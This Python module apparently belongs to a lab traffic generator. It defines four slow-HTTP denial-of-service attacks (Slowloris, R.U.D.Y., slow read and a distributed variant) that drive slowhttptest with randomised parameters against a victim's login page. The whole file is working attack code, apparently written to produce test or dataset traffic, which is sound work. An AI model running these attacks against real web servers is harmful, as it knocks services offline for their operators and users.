"""Denial of service by patience: many HTTP connections that never get to the point."""
from .flood import from_many
from .job import attack


def _slow(job, attacker, victim, port, tls, how, connections):
    seconds = int(max(4, min(job.left * 0.8, job.rng.uniform(10, 30))))
    job.run(attacker, ["slowhttptest", *how, "-c", connections, "-r", job.rng.choice((10, 30, 60)), "-l", seconds,
                       "-p", "3",
                       "-u", f"{'https' if tls else 'http'}://{victim.v4}:{port}/app/login"], seconds + 4)


def _alone(job, how):
    victim = job.victim()
    attacker = job.attacker(victim)
    tls = job.rng.random() < 0.25
    port = victim.services["tls" if tls else "web"]
    with job.claim(attacker, victim, port=port):
        _slow(job, attacker, victim, port, tls, how, job.rng.choice((40, 100, 200)))


@attack("dos", "slowhttptest", wants="web")
def slow_headers(job):
    """Slowloris."""
    _alone(job, ["-H", "-i", str(job.rng.choice((2, 4, 8))), "-x", str(job.rng.choice((10, 24, 60)))])


@attack("dos", "slowhttptest", wants="web")
def slow_body(job):
    """R.U.D.Y."""
    _alone(job, ["-B", "-i", str(job.rng.choice((2, 4, 8))), "-s", str(job.rng.choice((4096, 8192))), "-x", "10"])


@attack("dos", "slowhttptest", wants="web")
def slow_read(job):
    _alone(job, ["-X", "-w", "10", "-y", "200", "-n", str(job.rng.choice((2, 5))), "-z", "32", "-k", "2"])


@attack("ddos", "slowhttptest", wants="web")
def slow_headers_from_many(job):
    victim = job.victim()
    from_many(job, victim, victim.services["web"], "tcp",
              lambda attacker: _slow(job, attacker, victim, victim.services["web"], False, ["-H", "-i", "4"], 40))
